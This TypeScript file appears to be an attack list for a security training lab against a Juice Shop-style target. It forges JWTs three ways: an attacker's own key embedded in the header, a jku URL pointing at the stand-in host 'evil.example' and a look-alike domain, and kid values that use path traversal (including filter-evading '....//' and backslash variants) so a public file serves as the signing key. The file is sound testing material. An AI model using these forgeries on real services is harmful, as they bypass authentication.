import type { Attack } from '#lab'
import { ownKey, publicFile, readByName, readRoute, signRs256, whilePublished } from './steps.ts'

const byAddress = (name: string, host: string, jku = `https://${host}/keys.json`): Attack => ({
  challenge: 'ownKeyChallenge',
  name,
  run: async (tools) => {
    const key = await ownKey()
    const token = await signRs256({ kid: '1', jku }, 'courier-7', key)
    await whilePublished(tools, { host, path: '/keys.json' }, [{ ...key.jwk, kid: '1' }], () =>
      readRoute(tools, token),
    )
  },
})

const byName = (name: string, kids: readonly string[]): Attack => ({
  challenge: 'keyByNameChallenge',
  name,
  run: async (tools) => readByName(tools, kids, await publicFile(tools, '/ftp/legal.md')),
})

export const attacks: Attack[] = [
  {
    challenge: 'ownKeyChallenge',
    name: 'a token with its key in the header',
    run: async (tools) => {
      const key = await ownKey()
      await readRoute(tools, await signRs256({ jwk: key.jwk }, 'courier-7', key))
    },
  },
  byAddress('a token with the address of its key', 'evil.example'),
  byAddress('an address that begins like the shop’s', 'keys.juice-sh.op.evil.example'),
  byName('a token signed with a file that everybody can read', ['../../ftp/legal.md']),
  byName('the same, and again with more dots than a filter takes out', [
    '../../ftp/legal.md',
    '....//....//ftp/legal.md',
  ]),
  byName('the same, by a path with backslashes', ['..\\..\\ftp\\legal.md']),
]
